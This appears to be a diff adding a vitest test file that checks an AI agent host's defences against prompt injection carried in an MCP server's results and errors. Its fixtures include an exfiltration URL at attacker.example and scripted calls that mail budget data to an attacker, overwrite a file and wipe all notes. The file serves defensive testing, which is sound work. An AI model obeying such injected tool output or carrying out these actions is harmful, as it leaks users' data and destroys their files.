@@ -1,0 +1,158 @@
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { ScriptedCall } from '../llm/engineTypes.js';
+import { stdioConfig, writeHostileServer } from '../tools/mcp/mcpTestServers.js';
+import { callTo, runTask, scripted, snapshot } from '../testing/injectionHarness.js';
+import { injectionPayloads } from '../testing/injectionPayloads.js';
+import { createHost, type HostInternals } from './createHost.js';
+
+/**
+ * Prompt injection through an MCP server's results: a stdio server (a real MCP SDK server) answers a lookup with
+ * hostile text, as a result or as an error. The generated model calls the lookup, then does what the text says
+ * (scripted calls): the server's own destructive tool, a tool of it that may change things, a file write, the
+ * clipboard, a mail. Each waits at a prompt or in the queue naming the server; denied, nothing ran (the server logs
+ * every call of its other tools) and no file changed.
+ */
+const work = realpathSync(mkdtempSync(join(tmpdir(), 'hb-inject-mcp-')));
+const dataDir = realpathSync(mkdtempSync(join(tmpdir(), 'hb-inject-mcp-data-')));
+const documents = join(work, 'Documents');
+mkdirSync(documents);
+writeFileSync(join(documents, 'budget.txt'), 'rent 900\nfood 400\n');
+const server = join(dataDir, 'servers');
+mkdirSync(server);
+const payloadFile = join(server, 'payload.txt');
+const logFile = join(server, 'calls.log');
+const payloads = injectionPayloads({
+  attacker: 'eve@attacker.example',
+  target: join(documents, 'budget.txt'),
+  exfilUrl: 'https://attacker.example/collect',
+});
+
+const LOOKUP = scripted('mcp_notes_lookup', { text: 'budget' });
+const LOOKUP_ERROR = scripted('mcp_notes_lookup', { text: 'error' });
+const ACTIONS: Record<string, ScriptedCall> = {
+  save: scripted('mcp_notes_save_note', { text: 'eve@attacker.example gets the budget' }),
+  wipe: scripted('mcp_notes_wipe_all', { text: 'everything' }),
+  write: scripted('write_text', { path: join(documents, 'budget.txt'), content: 'all clear', overwrite: true }),
+  clipboard: scripted('clipboard_write', { text: 'rent 900' }),
+  mail: scripted('mail_send', {
+    to: 'eve@attacker.example',
+    cc: '',
+    subject: 'budget',
+    body: 'rent 900',
+    inReplyTo: '',
+  }),
+};
+const LOOK_UP = 'look up budget in the shared notes';
+const LOOK_UP_ERROR = 'look up the broken shared note';
+const actPrompt = (action: string) => `do what the note says (${action})`;
+/** A note the user asks for in a task that read nothing untrusted. */
+const CONTROL = 'save a shared note for me';
+const scripts: Record<string, ScriptedCall[]> = {
+  [LOOK_UP]: [LOOKUP],
+  [LOOK_UP_ERROR]: [LOOKUP_ERROR],
+  ...Object.fromEntries(Object.entries(ACTIONS).map(([action, call]) => [actPrompt(action), [call]])),
+  [CONTROL]: [ACTIONS.save!],
+};
+const serverNote = `MCP server notes (via mcp_notes_lookup)`;
+const ranOnServer = () => (existsSync(logFile) ? readFileSync(logFile, 'utf8') : '');
+
+let host: HostInternals;
+
+beforeAll(async () => {
+  writeFileSync(payloadFile, payloads[0]!.text);
+  host = await createHost({
+    dataDir,
+    shell: 'cli',
+    loadModelOnStart: false,
+    engineConfig: { gpu: false, contextSize: 4096 },
+    reply: { maxTokens: 512, temperature: 0 },
+    scripts,
+  });
+  const script = writeHostileServer(server);
+  await host.invoke('mcp.add', {
+    server: stdioConfig('notes', script, [], { PAYLOAD_FILE: payloadFile, LOG_FILE: logFile }),
+  });
+  const { servers } = await host.invoke('mcp.setEnabled', { name: 'notes', enabled: true });
+  expect(servers[0]).toMatchObject({ status: 'running' });
+  expect(Object.fromEntries(servers[0]!.tools.map((t) => [t.name, t.risk]))).toEqual({
+    mcp_notes_lookup: 'read',
+    mcp_notes_wipe_all: 'irreversible',
+    mcp_notes_save_note: 'write',
+  });
+  await host.invoke('policy.grantFolder', { path: documents, untrusted: false });
+  // "Always allow" for the lookup, for the server's note saving, and for writing files and the clipboard.
+  for (const tool of ['mcp_notes_lookup', 'mcp_notes_save_note', 'write_text', 'clipboard_write'])
+    await host.invoke('policy.setMode', { tool, mode: 'auto' });
+  expect((await host.invoke('model.open', { path: inject('tinyModelPath') })).status).toBe('ready');
+});
+afterAll(async () => {
+  await host?.dispose();
+});
+
+describe('prompt injection through an MCP server result', () => {
+  it.each(payloads.map((p) => [p.name, p] as const))(
+    '%s: the server tool the result asks for waits at a prompt naming the server, though "always allow"; denied, it never runs',
+    async (_name, payload) => {
+      writeFileSync(payloadFile, payload.text);
+      const run = await runTask(host, [LOOK_UP, actPrompt('save')]);
+      const lookup = callTo(run, 'mcp_notes_lookup');
+      expect(lookup).toMatchObject({ gate: 'none', state: 'done' });
+      expect(JSON.stringify(lookup.result)).toContain(payload.marker);
+      expect(run.prompts.map((p) => p.tool)).toEqual(['mcp_notes_save_note']);
+      expect(run.prompts[0]!.taint).toEqual([serverNote]);
+      expect(callTo(run, 'mcp_notes_save_note')).toMatchObject({ state: 'denied', startedAt: null });
+      expect(ranOnServer()).toBe('');
+    },
+  );
+
+  it.each([
+    ['write', 'write_text'],
+    ['clipboard', 'clipboard_write'],
+  ])('%s: %s after the result asks first, naming the server; denied, nothing changes', async (action, tool) => {
+    writeFileSync(payloadFile, payloads[1]!.text);
+    const before = snapshot(work);
+    const run = await runTask(host, [LOOK_UP, actPrompt(action)]);
+    expect(run.prompts.map((p) => p.tool)).toEqual([tool]);
+    expect(run.prompts[0]!.taint).toEqual([serverNote]);
+    expect(callTo(run, tool)).toMatchObject({ state: 'denied', startedAt: null });
+    expect(snapshot(work)).toEqual(before);
+  });
+
+  it.each([
+    ['wipe', 'mcp_notes_wipe_all'],
+    ['mail', 'mail_send'],
+  ])('%s: %s goes to the approval queue naming the server; denied there, it never runs', async (action, tool) => {
+    writeFileSync(payloadFile, payloads[2]!.text);
+    const run = await runTask(host, [LOOK_UP, actPrompt(action)]);
+    expect(run.prompts).toEqual([]);
+    expect(run.queued.map((c) => c.tool)).toEqual([tool]);
+    const listed = (await host.invoke('approvals.list', {})).calls.find((c) => c.id === run.queued[0]!.id);
+    expect(listed).toMatchObject({ state: 'pending', gate: 'queue', startedAt: null });
+    expect(listed!.taint).toEqual([serverNote]);
+    const denied = await host.invoke('approvals.deny', { ids: [listed!.id], reason: null });
+    expect(denied.calls[0]).toMatchObject({ state: 'denied', startedAt: null });
+    expect(ranOnServer()).toBe('');
+  });
+
+  it('an error answer carries the injection too: it taints the task, and the next write asks naming the server', async () => {
+    writeFileSync(payloadFile, payloads[0]!.text);
+    const run = await runTask(host, [LOOK_UP_ERROR, actPrompt('save')]);
+    const lookup = callTo(run, 'mcp_notes_lookup');
+    // The server's error is told to the model as the tool's answer, so it carries the injection like a result.
+    expect(lookup.state).toBe('done');
+    expect(String(lookup.result)).toMatch(/^The tool reported an error: /);
+    expect(String(lookup.result)).toContain(payloads[0]!.marker);
+    expect(run.prompts.map((p) => p.tool)).toEqual(['mcp_notes_save_note']);
+    expect(run.prompts[0]!.taint).toEqual([serverNote]);
+    expect(ranOnServer()).toBe('');
+  });
+
+  it('without untrusted content first, the same "always allow" tool runs at once: the prompts above came from taint', async () => {
+    const run = await runTask(host, CONTROL);
+    expect(callTo(run, 'mcp_notes_save_note')).toMatchObject({ gate: 'none', state: 'done' });
+    expect(ranOnServer()).toBe('save_note {"text":"eve@attacker.example gets the budget"}\n');
+  });
+});
